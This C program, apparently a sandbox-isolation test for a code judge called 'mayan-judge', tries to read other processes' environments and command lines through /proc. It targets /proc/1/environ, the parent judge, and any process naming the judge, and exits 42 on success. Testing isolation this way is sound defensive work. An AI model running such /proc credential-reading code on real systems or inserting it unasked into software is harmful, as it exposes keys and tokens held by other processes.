/* Attack: read the judge's secrets through /proc: /proc/1/environ, the
 * environment and command line of the parent (the judge, getppid()), and
 * of any process whose command line mentions mayan-judge (found by
 * scanning /proc). The judge's command line names the package and test
 * folders; environments hold keys and tokens.
 * Success: an environment of another process was read (non-empty), or a
 * command line of the judge was read: exit 42. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static ssize_t slurp(const char *path, char *buf, size_t cap) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t got = 0, n;
    while ((size_t)got < cap && (n = read(fd, buf + got, cap - got)) > 0) got += n;
    close(fd);
    return got;
}

static int mentions_judge(const char *buf, ssize_t n) {
    for (ssize_t i = 0; i + 11 <= n; i++)
        if (memcmp(buf + i, "mayan-judge", 11) == 0) return 1;
    return 0;
}

int main(void) {
    static char buf[1 << 16];
    pid_t self = getpid(), parent = getppid();
    char path[64];
    ssize_t n;
    if (self != 1 && (n = slurp("/proc/1/environ", buf, sizeof buf)) > 0) {
        fprintf(stderr, "read /proc/1/environ (%zd bytes)\n", n);
        return 42;
    }
    if (parent > 1) {
        snprintf(path, sizeof path, "/proc/%d/environ", parent);
        if ((n = slurp(path, buf, sizeof buf)) > 0) {
            fprintf(stderr, "read the parent's environment\n");
            return 42;
        }
        snprintf(path, sizeof path, "/proc/%d/cmdline", parent);
        if ((n = slurp(path, buf, sizeof buf)) > 0 && mentions_judge(buf, n)) {
            fprintf(stderr, "read the judge's command line\n");
            return 42;
        }
    }
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0 || pid == self) continue;
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        if ((n = slurp(path, buf, sizeof buf)) > 0 && mentions_judge(buf, n)) {
            fprintf(stderr, "read a judge's command line (pid %d)\n", pid);
            return 42;
        }
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        if ((n = slurp(path, buf, sizeof buf)) > 0) {
            fprintf(stderr, "read the environment of pid %d\n", pid);
            return 42;
        }
    }
    puts("-1");
    return 0;
}
